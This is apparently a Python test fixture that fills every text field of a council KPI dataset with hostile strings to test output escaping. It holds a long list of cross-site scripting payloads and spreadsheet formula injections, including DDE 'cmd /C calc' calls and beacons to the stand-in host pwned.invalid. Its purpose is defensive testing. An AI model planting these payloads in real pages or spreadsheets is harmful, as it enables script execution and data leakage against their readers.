"""Texts that attack whoever shows or opens them, and a council whose every text field holds them."""

from pathlib import Path

from tests.small_council import write_table

AWAY = "pwned.invalid"
_RUN = "pwned()"
SCRIPTS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<script src=https://{AWAY}/x.js></script>",
    f"<script src=data:,{_RUN}></script>",
    f"<script type=module>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} /></svg>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributename=x to=1>",
    f'"><svg onload={_RUN}>',
    f"'><svg onload={_RUN}>",
    f"</desc></svg><svg onload={_RUN}>",
    f"</text><svg onload={_RUN}>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<svg><a href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='https://{AWAY}/x.svg#x'/></svg>",
    f"<svg><image href='https://{AWAY}/x.png'/></svg>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"`><img src=x onerror={_RUN}>",
    f"<img src=`x`onerror={_RUN}>",
    f"<IMG SRC=x ONERROR={_RUN}>",
    f"<img src=https://{AWAY}/beacon.gif>",
    f"<img srcset='https://{AWAY}/b.gif 1x'>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src=https://{AWAY}/x.swf>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div onmouseover={_RUN} style=position:fixed;inset:0>x</div>",
    f'" onmouseover={_RUN} x="',
    f"' onfocus={_RUN} autofocus x='",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href=' javascript:{_RUN}'>x</a>",
    f"<a href=https://{AWAY} ping=https://{AWAY}/ping>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<math><mtext></form><form><mglyph><svg><mtext><style>"
    f"<path id='</style><img src=x onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template><img src=x onerror={_RUN}>",
    f"<meta http-equiv=refresh content='0;url=https://{AWAY}/'>",
    f"<base href=https://{AWAY}/>",
    f"<link rel=stylesheet href=https://{AWAY}/x.css>",
    f"<link rel=prefetch href=https://{AWAY}/x>",
    f"<style>@import'https://{AWAY}/x.css';</style>",
    f"<style>*{{background:url(https://{AWAY}/x.png)}}</style>",
    f"<p style='background:url(https://{AWAY}/x.png)'>x</p>",
    f"[x](javascript:{_RUN})",
    f"[x](http://{AWAY}/)",
    f"![x](http://{AWAY}/x.png)",
    f"<http://{AWAY}/>",
    f"[x]: javascript:{_RUN}\n[x]",
    f'![x](x"onerror={_RUN})',
    f"```html\n<img src=x onerror={_RUN}>\n```",
    f"{{{{ self.__init__.__globals__ }}}}<img src=x onerror={_RUN}>",
    f"{{% import 'os' as os %}}<img src=x onerror={_RUN}>",
    f"${{{_RUN}}}",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"\u2028<img src=x onerror={_RUN}>",
    f"\u202e<img src=x onerror={_RUN}>",
    f"<\x0bimg src=x onerror={_RUN}>",
    f"\x1b]8;;http://{AWAY}\x07x\x1b]8;;\x07",
)
FORMULAS = (
    '=HYPERLINK("http://pwned.invalid","x")', "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)",
    '=IMPORTXML("http://pwned.invalid","//a")', '=WEBSERVICE("http://pwned.invalid")', "\t=1+1", "\r=1+1",
    " =1+1", "\u00a0=1+1", "\ufeff=1+1", "'=1+1", "x\r=1+1", 'x"\n=1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")', "=1+1;2", "=1+1,3", "{=1+1}", "=file://pwned.invalid/x",
    "-2+3+cmd|' /C calc'!A0", "=A1:A9", "=\u200b1+1",
)  # fmt: skip
PAYLOADS = SCRIPTS + FORMULAS
QUARTER = "2024-25 Q3"


def write_hostile_council(raw: Path, refused_rows: bool = True) -> Path:
    """A raw folder in which each payload stands in each text field, three to a cell; some rows of
    its returns are refused.
    """
    count = len(PAYLOADS) // 3

    def at(row: int, field: int) -> str:
        return " ".join(PAYLOADS[(3 * row + 7 * field + more) % len(PAYLOADS)] for more in range(3))

    def said(row: int, field: int) -> str:
        # what stands in braces in a commentary must be one of its tokens
        return at(row, field).replace("{", "(")

    # at most one KPI in each section, so that a payload stands in the name of each section, too
    numbers = range(count)
    sections = [_name(f"{at(n, 0)} {n}") for n in numbers]
    ids = [f"K{n:03}{at(n, 11) if n % 2 else ''}" for n in numbers]
    title = _toml(_name(" ".join(SCRIPTS[1:30:4])))
    raw.mkdir(parents=True)
    (raw / "council.toml").write_text(
        f"[council]\nname = {_toml(_name(SCRIPTS[3] + SCRIPTS[18]))}\nreport_title = {title}\n"
        f"sections = [{', '.join(map(_toml, sections))}]\nowner_team = {_toml(FORMULAS[0])}\n"
        "[loading]\nrejected_share = 0.5\n",
        encoding="utf-8",
    )
    now, first = {"from_quarter": QUARTER}, {"from_quarter": "2020-21 Q1"}
    kpis = [
        {"kpi_id": ids[n], "kpi_name": f"{at(n, 1)} {n}", "section": sections[n]}
        | {"directorate": at(n, 2), "unit": f"other: {at(n, 12)}" if n % 3 == 1 else "%"}
        | {"polarity": "higher", "definition": at(n, 3), "owner": at(n, 4), "source": at(n, 5)}
        for n in numbers
    ]
    targets = [
        {"kpi_id": ids[n], **first, "target": 90, "floor_standard": 80, "reason": at(n, 6)}
        | {"status": "estimated"}
        for n in numbers
    ]
    sent = [
        {"kpi_id": ids[n], "period": f"2024-25 Q{q}", "value": 70 + (n + q) % 30}
        | {"status": "provisional", "note": at(n, 7), at(9, 0): ""}
        for n in numbers
        for q in (1, 2, 3)
    ]
    refused = [
        {"kpi_id": ids[n], "period": "2023-24 Q4", "value": at(n, 8), "note": at(n, 9)}
        for n in numbers
    ]
    words = [
        {"kpi_id": ids[n], "section": "", "commentary": said(n, 8)}
        | {"management_action": said(n, 9), "author": at(n, 10)}
        for n in numbers
    ]
    words += [
        {"section": sections[n], "commentary": said(n, 11), "author": at(n, 12)} for n in numbers
    ]
    activity = [
        {"activity_id": f"A{n:03}", "activity_name": f"{at(n, 2)} {n}", "section": sections[n]}
        | {"unit": f"other: {at(n, 3)}", "period": f"2024-25 Q{q}", "value": 100 + q, "decimals": 0}
        | {"note": at(n, 4)}
        for n in numbers[::4]
        for q in (1, 2, 3)
    ]
    changes = [
        {"kpi_id": ids[n], **now, "change": ("added", "redefined")[n % 2], "reason": at(n, 8)}
        for n in numbers
    ]
    benchmarks = [
        {"kpi_id": ids[n], "area": at(n, 5), "period": at(n, 6), "value": 50, "source": at(n, 7)}
        | {"from_quarter": "2024-25 Q1"}
        for n in numbers
    ]
    for name, table in {
        "kpis": kpis,
        "targets": targets,
        "returns/2024-25-Q3/return": [*sent, *(refused if refused_rows else [])],
        "commentary/2024-25-Q3": words,
        "activity": activity,
        "changes": changes,
        "benchmarks": benchmarks,
    }.items():
        write_table(raw / f"{name}.csv", table)
    return raw


def _name(text: str) -> str:
    return " ".join(text.split())[:290]


def _toml(text: str) -> str:
    escaped = "".join(
        letter if letter.isprintable() and letter not in '"\\' else f"\\u{ord(letter):04x}"
        for letter in text
    )
    return f'"{escaped}"'
